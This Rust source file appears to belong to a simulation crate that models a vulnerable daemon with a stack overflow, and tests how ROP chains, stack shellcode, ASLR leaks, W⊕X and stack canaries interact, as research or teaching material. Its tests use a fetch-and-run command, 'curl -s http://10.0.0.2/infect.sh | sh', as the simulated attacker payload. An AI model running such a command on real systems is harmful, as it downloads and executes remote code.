//! The vulnerable process: a running instance of a [`BinaryImage`] that
//! copies network input into a fixed stack buffer and "returns" through
//! whatever the input left there.
//!
//! This is the execution side of the memory-error model. It honours the
//! paper's attack-model semantics exactly:
//!
//! * inputs that fit the buffer are handled normally;
//! * longer inputs overwrite the saved return address;
//! * a return into the stack is code injection — succeeds only without W⊕X;
//! * a return into the text segment executes gadgets — works regardless of
//!   W⊕X (that is the point of ROP), but the chain's addresses must match
//!   the process's actual load slide, so static chains crash under ASLR;
//! * an `execlp` gadget with a valid command pointer yields the attacker's
//!   shell command.

use crate::image::{BinaryImage, GadgetOp};
use crate::protections::Protections;
use rand::Rng;
use std::fmt;
use std::sync::Arc;

/// Static (unslid) stack address at which the daemon's input buffer lives.
/// All regions slide together under ASLR.
pub const STACK_PAYLOAD_BASE: u64 = 0x7fff_ff10_0000;

/// Number of 4-KiB pages the ASLR slide is drawn from.
pub const ASLR_PAGES: u64 = 0xFFFF;

/// A defense that stopped an exploit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Defense {
    /// W⊕X blocked execution of writable memory.
    WriteXorExecute,
}

/// Why the process crashed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CrashReason {
    /// The overwritten return address pointed nowhere executable/known —
    /// the signature of a static ROP chain meeting ASLR.
    InvalidReturnAddress(u64),
    /// The stack canary was clobbered: `*** stack smashing detected ***`.
    /// The process aborts before the corrupted return address is used, so
    /// no exploit strategy in this codebase survives it.
    StackSmashingDetected,
    /// A syscall gadget ran with a bad argument pointer.
    BadSyscallArgument,
    /// The chain ran past its last word without reaching a syscall.
    ChainOverrun,
}

/// Result of delivering one network input to the process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DeliveryOutcome {
    /// Input fit the buffer; handled as normal protocol traffic.
    Handled,
    /// An exploit was stopped by a memory defense; the process survives.
    Blocked(Defense),
    /// The process crashed (it must be restarted before handling more
    /// input).
    Crashed(CrashReason),
    /// The exploit succeeded: the process performed
    /// `execlp("sh","-c",cmd)`. The process is now running the attacker's
    /// command.
    Exec(String),
    /// The process is dead (crashed earlier and not yet restarted).
    Dead,
}

impl DeliveryOutcome {
    /// Whether the exploit achieved command execution.
    pub fn is_exec(&self) -> bool {
        matches!(self, DeliveryOutcome::Exec(_))
    }
}

/// A running instance of a vulnerable daemon.
///
/// # Examples
///
/// ```
/// use tinyvm::{catalog, Arch, Protections, VulnProcess};
/// use rand::SeedableRng;
/// use std::sync::Arc;
///
/// let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
/// let mut rng = rand::rngs::SmallRng::seed_from_u64(7);
/// let mut process = VulnProcess::start(image, Protections::FULL, &mut rng);
/// // Ordinary protocol input is handled; it never hijacks control flow.
/// assert_eq!(process.deliver_input(b"dhcp solicit"), tinyvm::DeliveryOutcome::Handled);
/// ```
#[derive(Debug, Clone)]
pub struct VulnProcess {
    image: Arc<BinaryImage>,
    protections: Protections,
    slide: u64,
    alive: bool,
}

impl VulnProcess {
    /// Starts a process from `image` with the given protections, drawing an
    /// ASLR slide from `rng` if enabled.
    pub fn start<R: Rng + ?Sized>(
        image: Arc<BinaryImage>,
        protections: Protections,
        rng: &mut R,
    ) -> Self {
        let slide = if protections.aslr {
            rng.gen_range(1..=ASLR_PAGES) * 0x1000
        } else {
            0
        };
        VulnProcess {
            image,
            protections,
            slide,
            alive: true,
        }
    }

    /// The image this process runs.
    pub fn image(&self) -> &BinaryImage {
        &self.image
    }

    /// The process's memory protections.
    pub fn protections(&self) -> Protections {
        self.protections
    }

    /// The current ASLR slide (0 without ASLR).
    pub fn slide(&self) -> u64 {
        self.slide
    }

    /// Whether the process is running.
    pub fn is_alive(&self) -> bool {
        self.alive
    }

    /// Restarts a crashed process (the firmware supervisor path); a fresh
    /// ASLR slide is drawn.
    pub fn restart<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        if self.protections.aslr {
            self.slide = rng.gen_range(1..=ASLR_PAGES) * 0x1000;
        }
        self.alive = true;
    }

    /// Answers an information-leak probe: the slid address of the leaked
    /// symbol, if the binary exposes a leak primitive.
    pub fn leak_probe(&self) -> Option<u64> {
        if !self.alive {
            return None;
        }
        self.image
            .leak
            .map(|l| l.leaked_symbol_addr.wrapping_add(self.slide))
    }

    fn stack_payload_range(&self, input_len: usize) -> (u64, u64) {
        let base = STACK_PAYLOAD_BASE.wrapping_add(self.slide);
        (base, base + input_len as u64)
    }

    /// Reads a NUL-terminated string at stack address `addr` inside the
    /// delivered input.
    fn read_cstr(&self, input: &[u8], addr: u64) -> Option<String> {
        let (base, end) = self.stack_payload_range(input.len());
        if addr < base || addr >= end {
            return None;
        }
        let off = (addr - base) as usize;
        let rest = &input[off..];
        let nul = rest.iter().position(|b| *b == 0)?;
        String::from_utf8(rest[..nul].to_vec()).ok()
    }

    /// Delivers one network input to the vulnerable copy path.
    pub fn deliver_input(&mut self, input: &[u8]) -> DeliveryOutcome {
        if !self.alive {
            return DeliveryOutcome::Dead;
        }
        let max = self.image.vuln.max_input;
        let input = if input.len() > max { &input[..max] } else { input };
        let ra_offset = self.image.vuln.ra_offset();
        if input.len() < ra_offset + 8 {
            // The saved return address survives: normal handling (possibly
            // clobbered locals, but no control-flow hijack).
            return DeliveryOutcome::Handled;
        }
        if self.protections.canary {
            // The guard value between buffer and RA was overwritten by the
            // linear copy; __stack_chk_fail aborts before the return.
            self.crash();
            return DeliveryOutcome::Crashed(CrashReason::StackSmashingDetected);
        }
        self.execute_hijack(input, ra_offset)
    }

    fn execute_hijack(&mut self, input: &[u8], ra_offset: usize) -> DeliveryOutcome {
        let words: Vec<u64> = input[ra_offset..]
            .chunks_exact(8)
            .map(|c| u64::from_le_bytes(c.try_into().expect("chunks_exact yields 8")))
            .collect();
        let (stack_base, stack_end) = self.stack_payload_range(input.len());
        let mut arg0: Option<u64> = None;
        let mut pc = 0usize;
        // Bounded walk: a real chain is a handful of gadgets.
        for _ in 0..64 {
            let Some(&word) = words.get(pc) else {
                self.crash();
                return DeliveryOutcome::Crashed(CrashReason::ChainOverrun);
            };
            if word >= stack_base && word < stack_end {
                // Return into the stack: code injection.
                if self.protections.wx {
                    return DeliveryOutcome::Blocked(Defense::WriteXorExecute);
                }
                let cmd = self
                    .read_cstr(input, word)
                    .unwrap_or_else(|| "<shellcode>".to_owned());
                return DeliveryOutcome::Exec(cmd);
            }
            match self.image.gadget_at(word, self.slide) {
                Some(GadgetOp::PopArg0) => {
                    arg0 = words.get(pc + 1).copied();
                    pc += 2;
                }
                Some(GadgetOp::PopArg1) => {
                    pc += 2;
                }
                Some(GadgetOp::Ret) => {
                    pc += 1;
                }
                Some(GadgetOp::SyscallExec) => {
                    let Some(ptr) = arg0 else {
                        self.crash();
                        return DeliveryOutcome::Crashed(CrashReason::BadSyscallArgument);
                    };
                    let Some(cmd) = self.read_cstr(input, ptr) else {
                        self.crash();
                        return DeliveryOutcome::Crashed(CrashReason::BadSyscallArgument);
                    };
                    return DeliveryOutcome::Exec(cmd);
                }
                None => {
                    self.crash();
                    return DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(word));
                }
            }
        }
        self.crash();
        DeliveryOutcome::Crashed(CrashReason::ChainOverrun)
    }

    fn crash(&mut self) {
        self.alive = false;
    }
}

impl fmt::Display for VulnProcess {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} [{}] slide={:#x} {}",
            self.image.name,
            self.protections,
            self.slide,
            if self.alive { "running" } else { "crashed" }
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog;
    use crate::image::Arch;
    use crate::rop::RopChainBuilder;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn proc(p: Protections, seed: u64) -> VulnProcess {
        let img = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        VulnProcess::start(img, p, &mut rng)
    }

    const CMD: &str = "curl -s http://10.0.0.2/infect.sh | sh";

    #[test]
    fn benign_input_is_handled() {
        let mut p = proc(Protections::NONE, 1);
        assert_eq!(p.deliver_input(b"normal dns response"), DeliveryOutcome::Handled);
        assert!(p.is_alive());
    }

    #[test]
    fn rop_chain_execs_without_protections() {
        let mut p = proc(Protections::NONE, 1);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        assert_eq!(p.deliver_input(&chain.encode()), DeliveryOutcome::Exec(CMD.into()));
    }

    #[test]
    fn rop_chain_execs_despite_wx() {
        let mut p = proc(Protections::WX, 1);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        assert!(p.deliver_input(&chain.encode()).is_exec(), "ROP defeats W^X");
    }

    #[test]
    fn static_chain_crashes_under_aslr() {
        let mut p = proc(Protections::ASLR, 7);
        assert_ne!(p.slide(), 0);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        let out = p.deliver_input(&chain.encode());
        assert!(
            matches!(out, DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(_))),
            "got {out:?}"
        );
        assert!(!p.is_alive());
    }

    #[test]
    fn leak_then_rebased_chain_defeats_aslr() {
        let mut p = proc(Protections::FULL, 7);
        let img = catalog::connman_image(Arch::X86_64);
        let leaked = p.leak_probe().expect("connman-like image leaks");
        let slide = leaked - img.leak.expect("leak spec").leaked_symbol_addr;
        assert_eq!(slide, p.slide());
        let chain = RopChainBuilder::new(&img, slide).execlp(CMD).expect("builds");
        assert_eq!(p.deliver_input(&chain.encode()), DeliveryOutcome::Exec(CMD.into()));
    }

    #[test]
    fn shellcode_blocked_by_wx_but_works_without() {
        let mut protected = proc(Protections::WX, 3);
        let chain = RopChainBuilder::new(protected.image(), 0).stack_shellcode(CMD);
        assert_eq!(
            protected.deliver_input(&chain.encode()),
            DeliveryOutcome::Blocked(Defense::WriteXorExecute)
        );
        assert!(protected.is_alive(), "blocked exploit does not kill the daemon");

        let mut open = proc(Protections::NONE, 3);
        let chain = RopChainBuilder::new(open.image(), 0).stack_shellcode(CMD);
        assert!(open.deliver_input(&chain.encode()).is_exec());
    }

    #[test]
    fn dead_process_ignores_input_until_restart() {
        let mut p = proc(Protections::ASLR, 9);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        let _ = p.deliver_input(&chain.encode());
        assert!(!p.is_alive());
        assert_eq!(p.deliver_input(b"hello"), DeliveryOutcome::Dead);
        let mut rng = SmallRng::seed_from_u64(5);
        let old_slide = p.slide();
        p.restart(&mut rng);
        assert!(p.is_alive());
        assert_ne!(p.slide(), old_slide, "restart re-randomizes the slide");
        assert_eq!(p.deliver_input(b"hello"), DeliveryOutcome::Handled);
    }

    #[test]
    fn slide_is_zero_without_aslr() {
        let p = proc(Protections::WX, 11);
        assert_eq!(p.slide(), 0);
    }

    #[test]
    fn canary_stops_every_strategy() {
        let img = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(21);
        let mut p = VulnProcess::start(Arc::clone(&img), Protections::HARDENED, &mut rng);
        // Even a perfectly rebased chain dies to the canary check.
        let leaked = p.leak_probe().expect("leaks");
        let slide = leaked - img.leak.expect("leak spec").leaked_symbol_addr;
        let chain = RopChainBuilder::new(&img, slide).execlp(CMD).expect("builds");
        assert_eq!(
            p.deliver_input(&chain.encode()),
            DeliveryOutcome::Crashed(CrashReason::StackSmashingDetected)
        );
        // Benign traffic is unaffected.
        let mut q = VulnProcess::start(img, Protections::HARDENED, &mut rng);
        assert_eq!(q.deliver_input(b"benign"), DeliveryOutcome::Handled);
    }

    #[test]
    fn garbage_overflow_crashes() {
        let mut p = proc(Protections::NONE, 1);
        let ra = p.image().vuln.ra_offset();
        let garbage = vec![0xEEu8; ra + 32];
        assert!(matches!(
            p.deliver_input(&garbage),
            DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(_))
        ));
    }
}
